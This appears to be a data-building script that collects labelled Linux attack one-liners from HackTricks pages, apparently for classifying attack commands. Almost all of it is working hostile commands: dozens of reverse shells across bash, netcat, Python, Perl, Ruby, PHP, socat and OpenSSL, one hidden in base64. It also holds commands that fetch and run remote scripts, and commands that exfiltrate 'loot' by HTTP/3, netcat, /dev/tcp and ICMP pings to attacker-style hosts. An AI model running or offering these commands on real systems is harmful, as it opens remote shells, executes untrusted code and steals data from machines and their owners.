S("HackTricks-wiki/hacktricks", "src/generic-hacking/reverse-shells/linux.md",
  "0437be9b64424c4c9045ec79e9534268edb6fb0f")
add(M, "reverse_shell", "Bash | sh / Netcat / Telnet / Python / Perl / Ruby / PHP", r'''
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
bash -i >& /dev/udp/127.0.0.1/4242 0>&1
0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196
exec 5<>/dev/tcp/203.0.113.5/4444; while read line 0<&5; do $line 2>&5 >&5; done
(sh)0>/dev/tcp/10.10.10.10/9091
bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'
echo bm9odXAgYmFzaCAtYyAnYmFzaCAtaSA+JiAvZGV2L3RjcC8xMC44LjQuMTg1LzQ0NDQgMD4mMScK | base64 -d | bash 2>/dev/null
echo -e '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1' > /tmp/sh.sh; bash /tmp/sh.sh;
nc -e /bin/sh 203.0.113.5 4444
nc 203.0.113.5 4444 | /bin/sh
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f
nc 203.0.113.5 4444| /bin/bash | nc 203.0.113.5 4445
rm -f /tmp/bkpipe;mknod /tmp/bkpipe p;/bin/sh 0</tmp/bkpipe | nc 203.0.113.5 4444 1>/tmp/bkpipe
busybox nc 203.0.113.5 4444 -e /bin/sh
busybox nc 203.0.113.5 4444 -e sh
rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|busybox nc 203.0.113.5 4444 >/tmp/f
telnet 203.0.113.5 4444 | /bin/sh
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|telnet 203.0.113.5 4444 >/tmp/f
telnet 203.0.113.5 4444 | /bin/bash | telnet 203.0.113.5 4445
rm -f /tmp/bkpipe;mknod /tmp/bkpipe p;/bin/sh 0</tmp/bkpipe | telnet 203.0.113.5 4444 1>/tmp/bkpipe
export X=Connected; while true; do X=`eval $(whois -h 203.0.113.5 -p 4444 "Output: $X")`; sleep 1; done
export RHOST="127.0.0.1";export RPORT=12345;python -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")'
python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'
python -c 'import socket,subprocess,os,pty;s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM);s.connect(("dead:beef:2::125c",4343,0,2));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=pty.spawn("/bin/sh");'
perl -e 'use Socket;$i="203.0.113.5";$p=80;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.5:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
ruby -rsocket -e 'exit if fork;c=TCPSocket.new("203.0.113.5","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
php -r '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");'
ncat 203.0.113.5 443 --ssl  -c  "bash -i 2>&1"
echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","192.168.0.134:8080");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go && rm /tmp/t.go
lua -e "require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','1234');os.execute('/bin/sh -i <&3 >&3 2>&3');"
zsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.5 4444; zsh -i <&$REPLY >&$REPLY 2>&$REPLY'
./revsh 203.0.113.5:443
mkfifo /tmp/.s; /bin/sh -i </tmp/.s 2>&1 | openssl s_client -quiet -connect 203.0.113.5:4444 >/tmp/.s; rm /tmp/.s
openssl s_client -quiet -connect 203.0.113.5:4444|/bin/bash|openssl s_client -quiet -connect 203.0.113.5:4445
socat TCP4:203.0.113.5:1337 EXEC:bash,pty,stderr,setsid,sigint,sane
awk 'BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null
''', note=DOC_IP)
add(M, "download_execute", "Bash | sh / gsocket / Rustcat", r'''
curl https://reverse-shell.sh/1.1.1.1:3000 | bash
wget http://203.0.113.5/shell.sh -P /tmp; chmod +x /tmp/shell.sh; /tmp/shell.sh
bash -c "$(curl -fsSL gsocket.io/x)"
curl -L https://github.com/robiot/rustcat/releases/download/v3.0.0/rcat-v3.0.0-linux-x86_64 -o /tmp/rcat \
&& chmod +x /tmp/rcat \
&& /tmp/rcat connect -s /bin/bash 203.0.113.5 55600
''', note=DOC_IP)
add(M, "bind_shell", "Socat", r'''
socat TCP-LISTEN:1337,reuseaddr,fork EXEC:bash,pty,stderr,setsid,sigint,sane
''')
add("public_host", None, "pwncat-cs / revsh", r'''
python3 -m pip install --user pwncat-cs
git clone https://github.com/emptymonkey/revsh && cd revsh && make
''')

S("HackTricks-wiki/hacktricks", "src/generic-hacking/exfiltration.md",
  "02cb3afd8649ab700ea00e2429dacf333a548a43")
add(M, "download_execute", "HTTP", r'''
wget 10.10.14.14:8000/tcp_pty_backconnect.py -O /dev/shm/.rev.py
curl 10.10.14.14:8000/shell.py -o /dev/shm/shell.py
''')
add(M, "exfiltration", "Upload files / HTTP/3 / pre-signed / Rclone / NC / dev-tcp / ICMP", r'''
curl -X POST http://HOST/upload -H -F 'files=@file.txt'
curl --http3-only -T loot.7z https://attacker-h3.example/upload
curl --http3 -T loot.7z https://attacker-h3.example/upload
curl --alt-svc /tmp/altsvc.cache -T loot.7z https://attacker-h3.example/upload
curl -X PUT -T loot.7z \
  -H 'Content-Type: application/octet-stream' \
  'https://bucket.s3.amazonaws.com/case123/loot.7z?X-Amz-Signature=0'
curl -X PUT --data-binary @loot.7z \
  -H 'x-ms-blob-type: BlockBlob' \
  -H 'Content-Type: application/octet-stream' \
  'https://acct.blob.core.windows.net/container/loot.7z?sig=0'
rclone copy /loot secret:$(hostname)-$(date +%F) \
  --transfers 2 --checkers 2 --bwlimit 4M
nc -vn 203.0.113.5 4444 < exfil_file
cat /path/file > /dev/tcp/10.10.10.10/80
xxd -p -c 4 /path/file/exfil | while read line; do ping -c 1 -p $line 203.0.113.5; done
goshs -tunnel
''', note=DOC_IP + "; presigned query placeholders replaced")
add("public_host", None, "Upload files / FTP", r'''
python3 -m pip install --user uploadserver
pip3 install pyftpdlib
sudo npm install -g ftp-srv --save
apt-get update && apt-get install pure-ftp
apt-get install samba
sudo apt-get install sshfs
''')
add("ordinary", None, "Copy&Paste Base64", r'''
base64 -d file
''')
